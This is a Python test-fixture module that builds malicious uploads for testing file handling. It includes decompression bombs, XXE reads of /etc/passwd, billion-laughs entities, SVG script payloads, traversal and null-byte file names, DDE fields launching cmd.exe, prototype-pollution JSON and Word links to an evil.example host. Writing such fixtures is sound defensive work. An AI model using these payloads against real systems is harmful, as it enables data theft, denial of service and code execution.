"""Files made to hurt whoever opens them, built here out of few bytes; none of them is a real attack.

Each table is name → bytes. What the name says is what the file tries.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from typing import Any

import xlsxwriter

from xiuhua.evidence.examples import HEIC, a_photo

SCRIPT = b"<script>alert(1)</script>"
SVG = b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'>" + SCRIPT + b"</svg>"
MB = 2**20


# --- pictures ----------------------------------------------------------------------------------
def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def a_png(width: int, height: int, rows: bytes, *more: bytes) -> bytes:
    """A PNG of one byte a pixel that says it is `width` by `height`, whatever its rows hold."""
    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    parts = (_chunk(b"IHDR", head), *more, _chunk(b"IDAT", zlib.compress(rows, 9)))
    return b"\x89PNG\r\n\x1a\n" + b"".join(parts) + _chunk(b"IEND", b"")


def _wide_jpeg() -> bytes:
    """A sound JPEG whose frame says 65,500 by 65,500."""
    good = a_photo()
    at = next(i for mark in (b"\xff\xc0", b"\xff\xc2") if (i := good.find(mark)) > 0)
    return good[: at + 5] + struct.pack(">HH", 65_500, 65_500) + good[at + 9 :]


def _wide_heic() -> bytes:
    """A sound HEIC whose picture says 60,000 by 60,000."""
    good = HEIC.read_bytes()
    at = good.find(b"ispe") + 8
    return good[:at] + struct.pack(">II", 60_000, 60_000) + good[at + 8 :]


def a_zip(**parts: bytes) -> bytes:
    """A zip; "/" in a name is written "__"."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, data in parts.items():
            packed.writestr(name.replace("__", "/"), data)
    return out.getvalue()


PICTURES: dict[str, bytes] = {
    "a PNG bomb of 2,500 megapixels": a_png(50_000, 50_000, bytes(MB)),
    "a PNG that unpacks past its rows": a_png(9_000, 9_000, bytes(60 * MB)),
    "a PNG whose text unpacks to 200 MB": a_png(
        8, 8, bytes(72), _chunk(b"zTXt", b"a\x00\x00" + zlib.compress(bytes(200 * MB), 9))
    ),
    "a JPEG that says 65,500 square": _wide_jpeg(),
    "a HEIC that says 60,000 square": _wide_heic(),
    "a JPEG cut in half": a_photo()[: len(a_photo()) // 2],
    "a PNG without its end": a_photo("png")[:200],
    "a WebP cut in half": a_photo("webp")[:300],
    "a JPEG that is an archive": a_photo() + a_zip(**{"a.php": b"<?php ?>"}),
    "a PDF that is an archive": b"%PDF-1.7\n" + a_zip(a=b"b"),
    "a GIF that is a script": b"GIF89a/*\x01\x00\x01\x00*/=1;alert(1);//;",
    "a page in a JPEG's beginning": b"\xff\xd8\xff\xe0\x00\x10JFIF" + b"<html>" + SCRIPT + a_photo()[20:],
    "an SVG with a script": SVG,
    "an SVG behind an XML head": b"<?xml version='1.0'?>" + SVG,
    "an SVG with an entity": (
        b"<?xml version='1.0'?><!DOCTYPE svg [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>"
        b"<svg xmlns='http://www.w3.org/2000/svg'><text>&x;</text></svg>"
    ),
    "a page": b"<!doctype html><body>" + SCRIPT,
    "a program": b"MZ\x90\x00" + bytes(200),
    "an archive": a_zip(a=b"b"),
    "a TIFF": b"II*\x00\x08\x00\x00\x00" + bytes(40),
    "nothing": b"",
    "zero bytes": bytes(4_000),
}  # fmt: skip
TAKEN_HARMLESS: dict[str, bytes] = {
    "a JPEG with a page behind it": a_photo() + b"<html>" + SCRIPT,
    "a JPEG with a script for its camera": a_photo().replace(b"Xiuhua", b"'><i/x"),
}
"""Photos that are sound and carry something: taken in, and shown without it."""
NAMES = ("../../../etc/cron.d/x.jpg", "..\\..\\x.jpg", "x.php.jpg", "x.jpg\x00.php", "<img src=x>.jpg",
         "CON.jpg", ".htaccess", "x" * 240 + ".jpg")  # fmt: skip


# --- workbooks ---------------------------------------------------------------------------------
def a_book(*rows: tuple[Any, ...]) -> bytes:
    """A sound workbook."""
    out = io.BytesIO()
    with xlsxwriter.Workbook(out) as book:
        sheet = book.add_worksheet()
        for place, row in enumerate(rows):
            sheet.write_row(place, 0, row)
    return out.getvalue()


def changed(packed: bytes, change: Callable[[str, bytes], bytes | None], **more: bytes) -> bytes:
    """The same archive with its parts changed (None: left out) and some added."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(packed)) as old, zipfile.ZipFile(out, "w", 8) as new:
        for one in old.namelist():
            if (part := change(one, old.read(one))) is not None:
                new.writestr(one, part)
        for name, data in more.items():
            new.writestr(name.replace("__", "/"), data)
    return out.getvalue()


def _sheet(text: bytes) -> bytes:
    """A workbook whose sheet is this text."""
    return changed(a_book(("a",)), lambda name, part: text if "sheet1.xml" in name else part)


def _cells(inside: bytes, before: bytes = b"", behind: bytes = b"") -> bytes:
    return _sheet(
        before + b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        b"<sheetData>" + inside + b"</sheetData>" + behind + b"</worksheet>"
    )


def _lying(packed: bytes) -> bytes:
    """The sheet's length in the directory is one byte."""
    at = packed.rfind(b"PK\x01\x02", 0, packed.rfind(b"xl/worksheets/sheet1.xml"))
    return packed[: at + 24] + struct.pack("<I", 1) + packed[at + 28 :]


_ONE = b'<row r="1"><c r="A1"><v>1</v></c></row>'
_LAUGHS = b"<!DOCTYPE x [<!ENTITY a 'ha'>" + b"".join(
    b"<!ENTITY %c '%s'>" % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(9)
) + b"]>"  # fmt: skip
WORKBOOKS: dict[str, bytes] = {
    "a workbook that unpacks to 300 MB": _sheet(bytes(300 * MB)),
    "one cell in the last row and column": _cells(
        b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    ),
    "a last row without cells' names": _cells(
        b'<row r="1"><c r="XFD1"><v>1</v></c></row><row r="1048576"><c><v>1</v></c></row>'
    ),
    "merged cells over one another": _cells(
        _ONE, behind=b"<mergeCells>" + b'<mergeCell ref="A1:ZZ1000"/>' * 5_000 + b"</mergeCells>"
    ),
    "an entity from a file": _cells(
        b'<row r="1"><c r="A1" t="str"><v>&x;</v></c></row>',
        b"<!DOCTYPE x [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>",
    ),
    "a billion laughs": _cells(b'<row r="1"><c r="A1" t="str"><v>&j;</v></c></row>', _LAUGHS),
    "a thousand parts": changed(
        a_book(("a",)), lambda _name, part: part, **{f"xl__{n}.xml": b"x" for n in range(1_000)}
    ),
    "parts that lie about their length": _lying(a_book(("a", "b"))),
    "a workbook without its sheet": changed(
        a_book(("a",)), lambda name, part: None if "sheet1" in name else part
    ),
    "a workbook cut in half": a_book(("a",) * 50)[:2_000],
    "an old binary workbook": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2_000),
    "another archive": a_zip(a=b"b"),
    "a page called xlsx": b"<html>" + SCRIPT,
    "nothing": b"",
}  # fmt: skip


# --- documents ---------------------------------------------------------------------------------
_DOCUMENT = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _related(form: bytes, kind: str, target: str) -> bytes:
    line = (
        f'<Relationship Id="rIdX" Type="{_DOCUMENT}/{kind}" Target="{target}" TargetMode="External"/>'
    ).encode()

    def change(name: str, part: bytes) -> bytes:
        ours = name == "word/_rels/document.xml.rels"
        return part.replace(b"</Relationships>", line + b"</Relationships>") if ours else part

    return changed(form, change)


def _said(form: bytes, inside: bytes) -> bytes:
    def change(name: str, part: bytes) -> bytes:
        return (
            part.replace(b"</w:body>", inside + b"</w:body>")
            if name == "word/document.xml"
            else part
        )

    return changed(form, change)


def _field(*words: str) -> bytes:
    runs = "".join(f"<w:r><w:instrText>{word}</w:instrText></w:r>" for word in words)
    return f"<w:p>{runs}</w:p>".encode()


def documents(form: bytes) -> dict[str, bytes]:
    """Forms of papers made out of a sound one."""
    head = b"<?xml version='1.0'?>"
    return {
        "macros": changed(form, lambda _name, part: part, **{"word__vbaProject.bin": b"x"}),
        "another file inside": changed(
            form, lambda _name, part: part, **{"word__embeddings__oleObject1.bin": b"x"}
        ),
        "a template from elsewhere": _related(form, "attachedTemplate", "http://evil.example/a.dotm"),
        "a picture from elsewhere": _related(form, "image", "http://evil.example/a.png"),
        "a share of another machine": _related(form, "oleObject", "file://evil.example/a"),
        "a field that starts a program": _said(form, _field("DDEAUTO c:\\\\windows\\\\cmd.exe calc")),
        "such a field cut in two": _said(form, _field("DDE", "AUTO cmd calc")),
        "a field that reads a file": _said(form, _field('INCLUDETEXT "c:\\\\secret.txt"')),
        "a form that unpacks to 300 MB": changed(
            form, lambda _name, part: part, word__a=bytes(300 * MB)
        ),
        "an entity from a file": changed(
            form,
            lambda name, part: head
            + b"<!DOCTYPE x [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>"
            + part.partition(b"?>")[2].replace(b"<w:body>", b"<w:body><w:p><w:r><w:t>{{&x;}}</w:t></w:r></w:p>")
            if name == "word/document.xml" else part,
        ),
        "a billion laughs": changed(
            form,
            lambda name, part: head + _LAUGHS.replace(b"DOCTYPE x", b"DOCTYPE w:document")
            + part.partition(b"?>")[2].replace(b"<w:body>", b"<w:body><w:p><w:r><w:t>{{&j;}}</w:t></w:r></w:p>")
            if name == "word/document.xml" else part,
        ),
        "a form cut in half": form[: len(form) // 2],
        "a page called docx": b"<html>" + SCRIPT,
        "another archive": a_zip(a=b"b"),
    }  # fmt: skip


# --- data --------------------------------------------------------------------------------------
JSON: dict[str, bytes] = {
    "nested a hundred thousand deep": b"[" * 100_000,
    "objects nested deep": b'{"a":' * 50_000 + b"1" + b"}" * 50_000,
    "no number": b'{"a": NaN, "features": NaN}',
    "a number of a million digits": b'{"type":"FeatureCollection","features":[' + b"9" * 1_000_000 + b"]}",
    "no UTF-8": b'{"a": "\xff\xfe"}',
    "a page": b"<html>" + SCRIPT,
    "nothing": b"",
    "zero bytes": bytes(4_000),
    "a list of nothing known": b'[{"__proto__": {"a": 1}, "constructor": 1}]',
}  # fmt: skip
